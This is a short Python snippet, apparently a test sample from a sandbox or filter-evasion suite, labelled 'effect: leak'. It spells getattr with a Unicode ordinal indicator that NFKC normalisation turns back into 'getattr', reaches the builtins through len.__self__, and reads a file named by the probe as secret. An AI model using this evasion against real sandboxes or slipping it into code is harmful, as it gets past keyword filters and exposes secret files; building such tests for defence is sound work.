# effect: leak
# note: NFKC of the ordinal indicator: getªttr is getattr
def attempt(probe):
    return getªttr(len, "__self__").open(probe["secret_file"]).read()
